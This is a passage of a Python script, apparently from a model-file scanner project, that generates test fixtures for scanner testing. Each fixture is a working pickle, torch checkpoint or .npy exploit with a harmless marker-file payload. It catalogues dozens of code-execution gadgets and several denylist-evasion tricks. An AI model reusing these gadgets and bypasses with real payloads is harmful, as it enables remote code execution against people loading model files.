#!/usr/bin/env python3
"""Build the malicious-fixture corpus: real attacks with harmless payloads.

Every file written here is a working exploit against the loader named in its
manifest entry (``torch.load(path, weights_only=False)``, ``pickle.load`` or
``numpy.load(path, allow_pickle=True)``), built the way attackers build them:
the pickles are assembled opcode by opcode from raw bytes, the ZIP, tar and
``.npy`` containers are written field by field. Nothing is ever produced by
pickling a live malicious object, and this script never loads any of its
outputs (``scripts/prove_malicious.py`` does that, in throw-away processes).

The only effect of every payload is to create an empty marker file named
``airlock-marker-<technique>`` in the loader's current working directory (with
``touch``, ``open(...).close()`` or a file-creating primitive, whatever the
technique's gadget needs). Payloads never touch the network, never delete,
never read anything.

The corpus covers (see ``manifest.json`` for the one-line story of each file
and the peer-scanner advisory it reproduces):

* gadgets: globals that execute code or commands (os/posix/subprocess,
  builtins, runpy, code, profilers, debuggers, timeit, trace, resolvers such as
  pydoc.locate / pkgutil.resolve_name / importlib, operator getters,
  functools.partial, nested deserializers, marshal / CodeType, ctypes,
  asyncio, idlelib, lib2to3, torch and numpy internals, uuid, _osx_support,
  imaplib, mailcap, multiprocessing, pty, tkinter, pip / ensurepip,
  distutils / setuptools, copyreg extensions, file-creating primitives);
* opcode tricks: memo games, DUP, STRING operands, INST / OBJ / NEWOBJ /
  NEWOBJ_EX, BUILD tricks, broken tails, deep MARK nesting, dotted names,
  fix_imports names, misplaced PROTO, FRAME boundaries, computed operands;
* containers: torch ZIP checkpoints with ZIP-parser differentials (local/central
  name and flag mismatches, bad CRC, duplicate and case-colliding records,
  DEFLATE), pickle/ZIP polyglots, the legacy torch stream and tar formats,
  misleading file extensions, object-dtype ``.npy``.

Some gadgets embed CPython bytecode (marshal / CodeType); they are generated for
the interpreter running this script, so run the generator and the proof with
the same Python (the project venv, see ``scripts/lib/venv.sh``).

Usage: gen_malicious_fixtures.py OUT_DIR
       gen_malicious_fixtures.py --check DIR  (exit 1 unless DIR holds exactly
                                              what this writes; proof.json is
                                              prove_malicious.py's)
Writes OUT_DIR/<file> for every technique and OUT_DIR/manifest.json, a list of
{"file", "technique", "description", "reference", "loader", "marker"}.
"""

import gzip
import io
import json
import lzma
import marshal
import os
import pickle
import struct
import sys
import tarfile
import zlib

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "lib"))
import airlock_fixtures as fx  # noqa: E402

MARKER_PREFIX = "airlock-marker-"

# torch legacy (non-zip) serialization constants (torch/serialization.py).
TORCH_LEGACY_MAGIC = 0x1950A86A20F9469CFC6C
TORCH_LEGACY_PROTOCOL = 1001

# ---------------------------------------------------------------------------
# Raw pickle opcodes (Lib/pickle.py names).

MARK = b"("
STOP = b"."
POP = b"0"
DUP = b"2"
NONE = b"N"
TUPLE = b"t"
EMPTY_TUPLE = b")"
EMPTY_LIST = b"]"
EMPTY_DICT = b"}"
APPEND = b"a"
APPENDS = b"e"
SETITEM = b"s"
SETITEMS = b"u"
REDUCE = b"R"
BUILD = b"b"
OBJ = b"o"
NEWTRUE = b"\x88"
NEWFALSE = b"\x89"
TUPLE1 = b"\x85"
NEWOBJ = b"\x81"
NEWOBJ_EX = b"\x92"
STACK_GLOBAL = b"\x93"
MEMOIZE = b"\x94"


def proto(n):
    return b"\x80" + bytes([n])


def frame(n):
    return b"\x95" + struct.pack("<Q", n)


def global_(module, name):
    """GLOBAL: `c module\\n name\\n` (protocol 0 text form, valid in all protocols)."""
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def inst(module, name):
    return b"i" + module.encode() + b"\n" + name.encode() + b"\n"


def ustr(s):
    """A str push with a binary opcode: SHORT_BINUNICODE if short, else BINUNICODE."""
    b = s.encode("utf-8")
    if len(b) < 256:
        return b"\x8c" + bytes([len(b)]) + b
    return b"X" + struct.pack("<I", len(b)) + b


def binunicode(s):
    """BINUNICODE (protocol 1+), the form torch.save's protocol-2 pickles use."""
    b = s.encode("utf-8")
    return b"X" + struct.pack("<I", len(b)) + b


def string0(s):
    """Protocol-0 STRING: `S'...'\\n` (decoded to str with the default ASCII encoding)."""
    return b"S" + repr(s).encode("ascii") + b"\n"


def unicode0(raw):
    """Protocol-0 UNICODE: `V<raw-unicode-escape>\\n`; `raw` is written verbatim."""
    return b"V" + raw.encode("ascii") + b"\n"


def short_binstring(s):
    b = s.encode("ascii")
    return b"U" + bytes([len(b)]) + b


def binbytes(b):
    if len(b) < 256:
        return b"C" + bytes([len(b)]) + b
    return b"B" + struct.pack("<I", len(b)) + b


def binint(n):
    if 0 <= n < 256:
        return b"K" + bytes([n])
    return b"J" + struct.pack("<i", n)


def binput(i):
    return b"q" + bytes([i])


def binget(i):
    return b"h" + bytes([i])


def sglobal(module, name):
    """STACK_GLOBAL with str operands (protocol 4)."""
    return ustr(module) + ustr(name) + STACK_GLOBAL


def call(fn, *args):
    """`fn(*args)` with MARK ... TUPLE REDUCE (valid in every protocol)."""
    return fn + MARK + b"".join(args) + TUPLE + REDUCE


def strlist(items, s=ustr):
    return EMPTY_LIST + MARK + b"".join(s(i) for i in items) + APPENDS


def literal(value, protocol=2):
    """Opcodes (no PROTO, no STOP) that push a plain literal value.

    Only for benign data (ints, str, dicts, lists of literals): these come from
    the stdlib pickler because nothing in them can import or call anything.
    """
    body = pickle.dumps(value, protocol=protocol)
    if protocol >= 2:
        body = body[2:]
    if protocol >= 4 and body[:1] == b"\x95":
        body = body[9:]
    assert body.endswith(STOP)
    return body[:-1]


# ---------------------------------------------------------------------------
# Payload text for a technique.


def marker(tech):
    return MARKER_PREFIX + tech


def sh(tech):
    """Shell command creating the marker."""
    return "touch " + marker(tech)


def py(tech):
    """Python statement (also a valid expression) creating the marker."""
    return f"open({marker(tech)!r}, 'w').close()"


def system_call(tech, fn=None):
    """Opcodes calling `posix.system("touch <marker>")` (os.system), result left on the stack."""
    return call(fn or global_("posix", "system"), ustr(sh(tech)))


def side_effect_then(tech, value, protocol=2):
    """A full pickle that runs the payload, POPs its result and returns `value`."""
    return proto(protocol) + system_call(tech) + POP + literal(value, protocol) + STOP


# ---------------------------------------------------------------------------
# Containers.


def build_zip(entries):
    """Write a ZIP archive field by field (stored or DEFLATE), no zipfile module.

    Each entry: dict(name, data, local_name=None, local_flags=0, central_flags=0,
    crc=None, deflate=False). `local_name` / `local_flags` only change the
    local file header, `crc` overrides the CRC-32 in both headers.
    """
    out = bytearray()
    central = bytearray()
    for e in entries:
        data = e["data"]
        stored = zlib.compress(data, 9)[2:-4] if e.get("deflate") else data
        method = 8 if e.get("deflate") else 0
        name = e["name"].encode()
        lname = (e.get("local_name") or e["name"]).encode()
        crc = e["crc"] if e.get("crc") is not None else zlib.crc32(data)
        offset = len(out)
        out += struct.pack(
            "<IHHHHHIIIHH", 0x04034B50, 20, e.get("local_flags", 0), method,
            0, 0x21, crc, len(stored), len(data), len(lname), 0)
        out += lname + stored
        central += struct.pack(
            "<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, e.get("central_flags", 0),
            method, 0, 0x21, crc, len(stored), len(data), len(name), 0, 0, 0, 0,
            0o644 << 16, offset)
        central += name
    cd_offset = len(out)
    out += central
    out += struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(entries), len(entries),
                       len(central), cd_offset, 0)
    return bytes(out)


def torch_zip(data_pkl, prefix="archive", **data_entry):
    """A torch.save-style ZIP checkpoint whose `data.pkl` is `data_pkl`."""
    return build_zip([
        dict(name=f"{prefix}/data.pkl", data=data_pkl, **data_entry),
        dict(name=f"{prefix}/byteorder", data=b"little"),
        dict(name=f"{prefix}/version", data=b"3\n"),
    ])


def legacy_values():
    """The five values of a legacy torch stream: magic, protocol, sys_info, object, storage keys."""
    return [
        TORCH_LEGACY_MAGIC,
        TORCH_LEGACY_PROTOCOL,
        {"protocol_version": TORCH_LEGACY_PROTOCOL, "little_endian": True,
         "type_sizes": {"short": 2, "int": 4, "long": 4}},
        {},
        [],
    ]


def torch_legacy(slot=None, payload=None):
    """The legacy (non-zip) torch stream (`_use_new_zipfile_serialization=False`).

    Five pickles back to back and no storages. If `slot` (0-4) is given, that
    pickle is replaced by the `payload` pickle.
    """
    pickles = [pickle.dumps(v, protocol=2) for v in legacy_values()]
    if slot is not None:
        pickles[slot] = payload
    return b"".join(pickles)


def npy_object(payload_pickle):
    """An `.npy` v1.0 file holding an object-dtype array (its body is a pickle)."""
    header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    total = 10 + len(header) + 1
    header += " " * ((64 - total % 64) % 64) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode("latin1") + payload_pickle


def tar_bytes(members):
    """A tar of `(name, data)` regular members; `(name, tarfile.LNKTYPE or
    SYMTYPE, target)` adds a link."""
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as tar:
        for name, *rest in members:
            info = tarfile.TarInfo(name)
            info.mtime = 0
            info.mode = 0o644
            if len(rest) == 2:
                info.type, info.linkname = rest
                tar.addfile(info)
                continue
            info.size = len(rest[0])
            tar.addfile(info, io.BytesIO(rest[0]))
    return buf.getvalue()


# ---------------------------------------------------------------------------
# The corpus. Each builder returns (bytes, extra manifest fields).

FIXTURES = []


class SkipFixture(Exception):
    """Raised by a builder that cannot produce a working file on this interpreter."""


def fixture(technique, loader, reference, description, filename=None):
    def register(build):
        FIXTURES.append(dict(
            technique=technique, loader=loader, reference=reference,
            description=description, filename=filename, build=build))
        return build
    return register


PL = "pickle.load"
TL = "torch.load"
NL = "numpy.load"

# ----- A. gadgets (raw pickles) --------------------------------------------


@fixture("os-system", PL, "https://github.com/mmaitre314/picklescan (malicious1 fixtures)",
         "os.system via STACK_GLOBAL (protocol 4): the textbook payload every denylist must catch")
def _(t):
    return proto(4) + call(sglobal("os", "system"), ustr(sh(t))) + STOP


@fixture("posix-system", PL, "generic",
         "posix.system via GLOBAL (protocol 2): how pickle.dumps(os.system) spells it on Linux; lists keyed on 'os' alone miss it")
def _(t):
    return proto(2) + system_call(t) + STOP


@fixture("subprocess-popen", PL, "generic",
         "subprocess.Popen(['touch', marker]): process spawned during unpickling, no shell string to grep for")
def _(t):
    return proto(2) + call(global_("subprocess", "Popen"), strlist(["touch", marker(t)], binunicode)) + STOP


@fixture("subprocess-check-output", PL, "generic",
         "subprocess.check_output(argv): synchronous process execution gadget")
def _(t):
    return proto(2) + call(global_("subprocess", "check_output"), strlist(["touch", marker(t)], binunicode)) + STOP


@fixture("builtins-exec", PL, "generic", "builtins.exec(source): arbitrary Python statements")
def _(t):
    return proto(2) + call(global_("builtins", "exec"), binunicode(py(t))) + STOP


@fixture("builtins-eval", PL, "generic", "builtins.eval(expression): arbitrary Python expression")
def _(t):
    return proto(2) + call(global_("builtins", "eval"), binunicode(py(t))) + STOP


@fixture("builtins-import-getattr", PL, "https://github.com/advisories/GHSA-h4rm-mm56-xf63",
         "getattr(__import__('os'), 'system')(cmd): the dangerous name exists only as call arguments, never as a GLOBAL")
def _(t):
    os_mod = call(global_("builtins", "__import__"), binunicode("os"))
    system = call(global_("builtins", "getattr"), os_mod, binunicode("system"))
    return proto(2) + call(system, binunicode(sh(t))) + STOP


@fixture("frame-straddle", PL, "https://github.com/trailofbits/fickling/pull/317",
         "a FRAME of 2 bytes whose BINBYTES reads 263: pickle.loads reads one bytestring, while "
         "pickle.load of the file drops the rest of the frame, reads a 1-byte string after it and "
         "runs the GLOBAL/REDUCE the bytestring hid (a 128 KiB text first puts the frame's end where "
         "the C unpickler's read-ahead ends)")
def _(t):
    hidden = global_("posix", "system") + b"V" + sh(t).encode() + b"\n" + TUPLE1 + REDUCE + MARK
    if len(hidden) > 261:
        raise SkipFixture("the marker command is too long for the frame trick")
    return (proto(5) + NONE + b"V" + b"a" * (8192 * 16 - 17) + b"\n" + POP + MARK
            + b"\x95" + struct.pack("<Q", 2) + b"B" + b"\x07\x01\x00\x00" + b"\x00\x00"
            + hidden.ljust(261, NONE) + b"1" + STOP)


@fixture("runpy-run-code", PL, "https://github.com/advisories/GHSA-wfq2-52f7-7qvj",
         "runpy._run_code(source, {}): private runpy helper that exec()s its first argument")
def _(t):
    return proto(2) + call(global_("runpy", "_run_code"), binunicode(py(t)), EMPTY_DICT) + STOP


@fixture("code-interactive-runcode", PL, "https://github.com/advisories/GHSA-cj3c-v495-4xqh",
         "code.InteractiveInterpreter.runcode(interp, source): unbound method named with a dotted qualname (protocol 4)")
def _(t):
    interp = call(sglobal("code", "InteractiveInterpreter"))
    return proto(4) + call(sglobal("code", "InteractiveInterpreter.runcode"), interp, ustr(py(t))) + STOP


@fixture("cprofile-run", PL, "https://github.com/advisories/GHSA-p523-jq9w-64x9",
         "cProfile.run(source): the profiler exec()s its statement in __main__")
def _(t):
    return proto(2) + call(global_("cProfile", "run"), binunicode(py(t))) + STOP


@fixture("profile-profile-run", PL, "https://github.com/advisories/GHSA-x696-vm39-cp64",
         "profile.Profile.run(Profile(), source): dotted method name, exec() inside the pure-Python profiler")
def _(t):
    prof = call(sglobal("profile", "Profile"))
    return proto(4) + call(sglobal("profile", "Profile.run"), prof, ustr(py(t))) + STOP


@fixture("profile-run", PL, "https://github.com/advisories/GHSA-7wx9-6375-f5wh",
         "module-level profile.run(source): picklescan listed only 'Profile.run', so the module function slipped through")
def _(t):
    return proto(2) + call(global_("profile", "run"), binunicode(py(t))) + STOP


@fixture("bdb-run", PL, "https://github.com/protectai/modelscan/pull/198",
         "bdb.Bdb.run(Bdb(), source): the base debugger traces and exec()s the statement without ever prompting")
def _(t):
    dbg = call(global_("bdb", "Bdb"))
    return proto(4) + call(sglobal("bdb", "Bdb.run"), dbg, ustr(py(t))) + STOP


@fixture("pdb-run", PL, "https://github.com/protectai/modelscan/pull/198",
         "pdb.Pdb(stdin='continue', stdout=StringIO()).run(source): a partial() with keywords set by BUILD builds a scripted debugger")
def _(t):
    # partial(Pdb) whose keywords are set by partial.__setstate__ through BUILD,
    # exactly how a pickled functools.partial is restored.
    stdin = call(global_("io", "StringIO"), ustr("continue\n"))
    stdout = call(global_("io", "StringIO"))
    kwargs = EMPTY_DICT + MARK + ustr("stdin") + stdin + ustr("stdout") + stdout + SETITEMS
    state = MARK + global_("pdb", "Pdb") + EMPTY_TUPLE + kwargs + NONE + TUPLE
    factory = call(global_("functools", "partial"), global_("pdb", "Pdb")) + state + BUILD
    dbg = factory + EMPTY_TUPLE + REDUCE
    return proto(4) + call(sglobal("pdb", "Pdb.run"), dbg, ustr(py(t))) + STOP


@fixture("doctest-debug-script", PL, "https://github.com/advisories/GHSA-fqq6-7vqf-w3fg",
         "doctest.debug_script(source, pm=True): exec()s the script before any debugger starts")
def _(t):
    return proto(2) + call(global_("doctest", "debug_script"), binunicode(py(t)), NEWTRUE) + STOP


@fixture("timeit-timeit", PL, "https://github.com/mmaitre314/picklescan (timeit in _unsafe_globals)",
         "timeit.timeit('pass', setup=source): the setup string is compiled and run once")
def _(t):
    return proto(2) + call(global_("timeit", "timeit"), binunicode("pass"), binunicode(py(t))) + STOP


@fixture("trace-run", PL, "https://github.com/advisories/GHSA-5qwp-399c-mjwf",
         "trace.Trace.run(Trace(0, 0), source): tracer exec()s its command in __main__")
def _(t):
    tracer = call(global_("trace", "Trace"), binint(0), binint(0))
    return proto(4) + call(sglobal("trace", "Trace.run"), tracer, ustr(py(t))) + STOP


@fixture("pydoc-locate", PL, "https://github.com/advisories/GHSA-5hvc-6wx8-mvv4",
         "pydoc.locate('os.system') resolves any dotted path at load time; the GLOBAL names only pydoc")
def _(t):
    system = call(global_("pydoc", "locate"), binunicode("os.system"))
    return proto(2) + call(system, binunicode(sh(t))) + STOP


@fixture("pkgutil-resolve-name", PL, "https://github.com/advisories/GHSA-vvpj-8cmc-gx39",
         "pkgutil.resolve_name('os:system'): universal resolver, the dangerous name is a string argument")
def _(t):
    system = call(global_("pkgutil", "resolve_name"), binunicode("os:system"))
    return proto(2) + call(system, binunicode(sh(t))) + STOP


@fixture("importlib-import-module", PL, "https://github.com/advisories/GHSA-q5qq-mvfm-j35x",
         "getattr(importlib.import_module('os'), 'system'): import by string, attribute by string")
def _(t):
    mod = call(global_("importlib", "import_module"), binunicode("os"))
    system = call(global_("builtins", "getattr"), mod, binunicode("system"))
    return proto(2) + call(system, binunicode(sh(t))) + STOP


@fixture("operator-attrgetter", PL, "https://github.com/mmaitre314/picklescan (malicious12)",
         "operator.attrgetter('system')(pathlib.os): attribute fetch on a module re-exported by an innocent-looking module")
def _(t):
    system = call(call(global_("operator", "attrgetter"), binunicode("system")), global_("pathlib", "os"))
    return proto(2) + call(system, binunicode(sh(t))) + STOP


@fixture("operator-methodcaller", PL, "https://github.com/advisories/GHSA-84r2-jw7c-4r5q",
         "operator.methodcaller('system', cmd)(pydoc.locate('os')): the call is made by a callable object, not REDUCE on os.system")
def _(t):
    caller = call(global_("operator", "methodcaller"), binunicode("system"), binunicode(sh(t)))
    return proto(2) + call(caller, call(global_("pydoc", "locate"), binunicode("os"))) + STOP


@fixture("c-operator-alias", PL, "https://github.com/advisories/GHSA-46h3-79wf-xr6c",
         "_operator.attrgetter + builtins.__import__: the C-accelerator module name bypasses lists keyed on 'operator'")
def _(t):
    os_mod = call(global_("builtins", "__import__"), binunicode("os"))
    system = call(call(global_("_operator", "attrgetter"), binunicode("system")), os_mod)
    return proto(2) + call(system, binunicode(sh(t))) + STOP


@fixture("functools-partial", PL, "https://github.com/mmaitre314/picklescan (malicious19, 'partial' substring match)",
         "functools.partial(posix.system, cmd)(): the executing REDUCE calls a partial object, not a named global")
def _(t):
    p = call(global_("functools", "partial"), global_("posix", "system"), binunicode(sh(t)))
    return proto(2) + p + EMPTY_TUPLE + REDUCE + STOP


@fixture("map-deferred-call", PL, "https://github.com/promptfoo/modelaudit (docs/agents/picklescan-rce-bypass-game.md)",
         "list(map(posix.system, [cmd])): the dangerous function is only an argument; the call happens inside map")
def _(t):
    lazy = call(global_("builtins", "map"), global_("posix", "system"), strlist([sh(t)], binunicode))
    return proto(2) + call(global_("builtins", "list"), lazy) + STOP


@fixture("atexit-deferred", PL, "https://github.com/promptfoo/modelaudit (docs/agents/picklescan-rce-bypass-game.md)",
         "atexit.register(posix.system, cmd): nothing runs during load; the command fires when the interpreter exits")
def _(t):
    return proto(2) + call(global_("atexit", "register"), global_("posix", "system"), binunicode(sh(t))) + STOP


@fixture("nested-pickle-loads", PL, "https://github.com/advisories/GHSA-h3qp-7fh3-f8h4",
         "pickle.loads(inline bytes): the outer pickle only calls a deserializer; the payload is an opaque BINBYTES blob")
def _(t):
    inner = proto(2) + system_call(t) + STOP
    return proto(3) + call(global_("pickle", "loads"), binbytes(inner)) + STOP


@fixture("nested-c-pickle-loads", PL, "https://github.com/protectai/modelscan/issues/267",
         "_pickle.loads(inline bytes): the C module name (what pickle.dumps(pickle.loads) emits) dodges lists keyed on 'pickle'")
def _(t):
    inner = proto(2) + system_call(t) + STOP
    return proto(3) + call(global_("_pickle", "loads"), binbytes(inner)) + STOP


@fixture("nested-torch-load", PL, "https://github.com/mmaitre314/picklescan (torch.serialization.load in _unsafe_globals)",
         "torch.load(BytesIO(zip), None, torch.serialization.pickle): passing pickle_module turns weights_only off; inner checkpoint is a blob")
def _(t):
    inner = torch_zip(side_effect_then(t, {}))
    bio = call(global_("io", "BytesIO"), binbytes(inner))
    return proto(3) + call(global_("torch", "load"), bio, NONE, global_("torch.serialization", "pickle")) + STOP


@fixture("torch-load-from-bytes", PL, "https://github.com/trailofbits/fickling (fickling/ml.py ML_ALLOWLIST)",
         "torch.storage._load_from_bytes(zip bytes) = torch.load(weights_only=False); allowlisted by fickling's ML allowlist")
def _(t):
    inner = torch_zip(side_effect_then(t, {}))
    return proto(3) + call(global_("torch.storage", "_load_from_bytes"), binbytes(inner)) + STOP


@fixture("nested-numpy-load", PL, "generic",
         "numpy.load(BytesIO(npy), None, True): nested loader with allow_pickle passed positionally; payload hides in an object .npy blob")
def _(t):
    inner = npy_object(proto(2) + system_call(t) + STOP)
    bio = call(global_("io", "BytesIO"), binbytes(inner))
    return proto(3) + call(global_("numpy", "load"), bio, NONE, NEWTRUE) + STOP


@fixture("torch-basichandlers", PL, "https://github.com/advisories/GHSA-h3qp-7fh3-f8h4",
         "torch datapipes decoder basichandlers('pickle', bytes): a torch data helper that pickle.loads its argument")
def _(t):
    inner = proto(2) + system_call(t) + STOP
    fn = global_("torch.utils.data.datapipes.utils.decoder", "basichandlers")
    return proto(3) + call(fn, binunicode("pickle"), binbytes(inner)) + STOP


@fixture("torch-config-load-config", PL, "https://github.com/advisories/GHSA-vv6j-3g6g-2pvj",
         "torch.utils._config_module.ConfigModule.load_config({}, bytes): pickle.loads before self is ever used")
def _(t):
    inner = proto(2) + system_call(t) + STOP
    fn = sglobal("torch.utils._config_module", "ConfigModule.load_config")
    return proto(4) + call(fn, EMPTY_DICT, binbytes(inner)) + STOP


@fixture("lib2to3-grammar-loads", PL, "https://github.com/advisories/GHSA-f54q-57x4-jg88",
         "lib2to3.pgen2.grammar.Grammar.loads(Grammar(), bytes): grammar-table loader that pickle.loads its argument")
def _(t):
    inner = proto(2) + system_call(t) + STOP
    grammar = call(sglobal("lib2to3.pgen2.grammar", "Grammar"))
    fn = sglobal("lib2to3.pgen2.grammar", "Grammar.loads")
    return proto(4) + call(fn, grammar, binbytes(inner)) + STOP


@fixture("lib2to3-make-label", PL, "https://github.com/advisories/GHSA-p9w7-82w4-7q8m",
         "lib2to3 ParserGenerator.make_label(None, Grammar(), label): eval() of a quoted token label")
def _(t):
    grammar = call(sglobal("lib2to3.pgen2.grammar", "Grammar"))
    label = '"" if ' + py(t) + ' else ""'
    fn = sglobal("lib2to3.pgen2.pgen", "ParserGenerator.make_label")
    return proto(4) + call(fn, NONE, grammar, ustr(label)) + STOP


@fixture("idlelib-debugobj-settext", PL, "https://github.com/advisories/GHSA-3vg9-h568-4w9m",
         "idlelib.debugobj.ObjectTreeItem.SetText({}, expr): IDLE tree widget helper eval()s its text, errors swallowed")
def _(t):
    fn = sglobal("idlelib.debugobj", "ObjectTreeItem.SetText")
    return proto(4) + call(fn, EMPTY_DICT, ustr(py(t))) + STOP


@fixture("idlelib-autocomplete-get-entity", PL, "https://github.com/advisories/GHSA-6w4w-5w54-rjvr",
         "idlelib.autocomplete.AutoComplete.get_entity({}, expr): eval() over sys.modules + __main__")
def _(t):
    fn = sglobal("idlelib.autocomplete", "AutoComplete.get_entity")
    return proto(4) + call(fn, EMPTY_DICT, ustr(py(t))) + STOP


@fixture("idlelib-calltip-get-entity", PL, "https://github.com/advisories/GHSA-9xph-j2h6-g47v",
         "idlelib.calltip.get_entity(expr): module-level IDLE helper that eval()s its argument")
def _(t):
    return proto(2) + call(global_("idlelib.calltip", "get_entity"), binunicode(py(t))) + STOP


@fixture("idlelib-run-runcode", PL, "https://github.com/advisories/GHSA-m869-42cg-3xwr",
         "idlelib.run.Executive.runcode(ns, source): exec() in self.locals; self is an argparse.Namespace filled by BUILD")
def _(t):
    ns = call(global_("argparse", "Namespace")) + EMPTY_DICT + ustr("locals") + EMPTY_DICT + SETITEM + BUILD
    fn = sglobal("idlelib.run", "Executive.runcode")
    return proto(4) + call(fn, ns, ustr(py(t))) + STOP


@fixture("torch-collect-env-run", PL, "https://github.com/advisories/GHSA-f745-w6jp-hpxx",
         "torch.utils.collect_env.run(cmd): torch's environment reporter runs a shell command string")
def _(t):
    return proto(2) + call(global_("torch.utils.collect_env", "run"), binunicode(sh(t))) + STOP


@fixture("torch-fx-evaluate-guards", PL, "https://github.com/advisories/GHSA-f4x7-rfwp-v3xw",
         "torch.fx ShapeEnv.evaluate_guards_expression({}, expr, []): eval() of a 'guard expression' string")
def _(t):
    fn = sglobal("torch.fx.experimental.symbolic_shapes", "ShapeEnv.evaluate_guards_expression")
    return proto(4) + call(fn, EMPTY_DICT, ustr(py(t)), EMPTY_LIST) + STOP


@fixture("torch-dynamo-guardbuilder-get", PL, "https://github.com/advisories/GHSA-86cj-95qr-2p4f",
         "torch._dynamo GuardBuilder.get(ns, ConstantSource(expr), {}): a guard 'source' whose name template is eval()ed")
def _(t):
    # GuardBuilder.get no longer takes a string (torch >= 2.x): it takes a Source
    # and eval()s its _name_template, which for ConstantSource is the raw name.
    src = call(sglobal("torch._dynamo.source", "ConstantSource"), ustr(py(t)))
    state = EMPTY_DICT + MARK + ustr("scope") + EMPTY_DICT + ustr("src_get_value_cache") + EMPTY_DICT + SETITEMS
    builder = call(global_("argparse", "Namespace")) + state + BUILD
    fn = sglobal("torch._dynamo.guards", "GuardBuilder.get")
    return proto(4) + call(fn, builder, src, EMPTY_DICT) + STOP


@fixture("torch-jit-execwrapper", PL, "https://github.com/advisories/GHSA-vr7h-p6mm-wpmh",
         "torch.jit.unsupported_tensor_ops.execWrapper(source, {}, {}): a thin exec() wrapper inside torch")
def _(t):
    fn = global_("torch.jit.unsupported_tensor_ops", "execWrapper")
    return proto(2) + call(fn, binunicode(py(t)), EMPTY_DICT, EMPTY_DICT) + STOP


@fixture("numpy-f2py-myeval", PL, "https://github.com/advisories/GHSA-6556-fwc2-fg2p",
         "numpy.f2py.crackfortran.myeval(expr): f2py's Fortran-constant evaluator is eval()")
def _(t):
    return proto(2) + call(global_("numpy.f2py.crackfortran", "myeval"), binunicode(py(t))) + STOP


@fixture("numpy-testing-runstring", PL, "https://github.com/mmaitre314/picklescan (numpy.testing._private.utils in _unsafe_globals)",
         "numpy.testing._private.utils.runstring(source, {}): numpy's test helper is a bare exec()")
def _(t):
    fn = global_("numpy.testing._private.utils", "runstring")
    return proto(2) + call(fn, binunicode(py(t)), EMPTY_DICT) + STOP


@fixture("subinterpreter-run-string", PL, "https://github.com/trailofbits/fickling (_xxsubinterpreters in UNSAFE_IMPORTS)",
         "_xxsubinterpreters.run_string(create(), source): runs the source in a fresh sub-interpreter of the same process")
def _(t):
    interp = call(global_("_xxsubinterpreters", "create"))
    return proto(2) + call(global_("_xxsubinterpreters", "run_string"), interp, binunicode(py(t))) + STOP


@fixture("test-support-assert-python-ok", PL, "https://github.com/advisories/GHSA-g38g-8gr9-h9xp",
         "test.support.script_helper.assert_python_ok('-c', source): CPython's test suite helper spawns a Python child")
def _(t):
    fn = global_("test.support.script_helper", "assert_python_ok")
    return proto(2) + call(fn, binunicode("-c"), binunicode(py(t))) + STOP


@fixture("uuid-get-command-stdout", PL, "https://github.com/advisories/GHSA-g38g-8gr9-h9xp",
         "uuid._get_command_stdout('sh', '-c', cmd): private MAC-address helper that runs any executable on PATH")
def _(t):
    fn = global_("uuid", "_get_command_stdout")
    return proto(2) + call(fn, binunicode("sh"), binunicode("-c"), binunicode(sh(t))) + STOP


@fixture("osx-support-read-output", PL, "https://github.com/advisories/GHSA-g38g-8gr9-h9xp",
         "_osx_support._read_output(cmd): macOS build helper, but importable and os.system()-backed on every platform")
def _(t):
    return proto(2) + call(global_("_osx_support", "_read_output"), binunicode(sh(t))) + STOP


@fixture("osx-support-find-build-tool", PL, "https://github.com/advisories/GHSA-5hwf-rc88-82xm",
         "_osx_support._find_build_tool('x; cmd #'): tool name is pasted into an xcrun shell command line")
def _(t):
    return proto(2) + call(global_("_osx_support", "_find_build_tool"), binunicode(f"x; {sh(t)} #")) + STOP


@fixture("imaplib-imap4-stream", PL, "https://github.com/advisories/GHSA-g38g-8gr9-h9xp",
         "imaplib.IMAP4_stream(cmd): the IMAP 'stream' transport is Popen(cmd, shell=True)")
def _(t):
    return proto(2) + call(global_("imaplib", "IMAP4_stream"), binunicode(sh(t))) + STOP


@fixture("mailcap-findmatch", PL, "https://github.com/protectai/modelscan/pull/346",
         "mailcap.findmatch(caps, type): the mailcap entry's 'test' command is passed to os.system (Python <= 3.12)")
def _(t):
    entry = EMPTY_DICT + MARK + ustr("view") + ustr("true") + ustr("test") + ustr(sh(t)) + SETITEMS
    caps = EMPTY_DICT + ustr("airlock/x") + EMPTY_LIST + entry + APPEND + SETITEM
    return proto(4) + call(global_("mailcap", "findmatch"), caps, ustr("airlock/x")) + STOP


@fixture("multiprocessing-spawnv-passfds", PL, "https://github.com/advisories/GHSA-q5qq-mvfm-j35x",
         "multiprocessing.util.spawnv_passfds(path, argv, fds): fork_exec wrapper, no subprocess/os name involved")
def _(t):
    argv = EMPTY_LIST + MARK + binbytes(b"/bin/sh") + binbytes(b"-c") + binbytes(sh(t).encode()) + APPENDS
    fn = global_("multiprocessing.util", "spawnv_passfds")
    return proto(3) + call(fn, binbytes(b"/bin/sh"), argv, EMPTY_LIST) + STOP


@fixture("pty-spawn", PL, "https://github.com/advisories/GHSA-hgrh-qx5j-jfwx",
         "pty.spawn(argv): runs a program under a pseudo-terminal")
def _(t):
    return proto(2) + call(global_("pty", "spawn"), strlist(["touch", marker(t)], binunicode)) + STOP


@fixture("asyncio-subprocess-transport", PL, "https://github.com/advisories/GHSA-q77w-mwjj-7mqx",
         "asyncio.unix_events._UnixSubprocessTransport._start({}, cmd, True, ...): submodule of asyncio, Popen(shell=True)")
def _(t):
    fn = sglobal("asyncio.unix_events", "_UnixSubprocessTransport._start")
    return proto(4) + call(fn, EMPTY_DICT, ustr(sh(t)), NEWTRUE, NONE, NONE, NONE, binint(0)) + STOP


@fixture("ctypes-libc-system", PL, "https://github.com/advisories/GHSA-4675-36f9-wf6r",
         "getattr(ctypes.CDLL(None), 'system')(b'cmd'): libc's system() through the FFI, no Python exec gadget at all")
def _(t):
    libc = call(global_("ctypes", "CDLL"), NONE)
    fn = call(global_("builtins", "getattr"), libc, ustr("system"))
    return proto(3) + call(fn, binbytes(sh(t).encode())) + STOP


@fixture("tkinter-tcl-exec", PL, "https://github.com/promptfoo/modelaudit (docs/agents/picklescan-rce-bypass-game.md)",
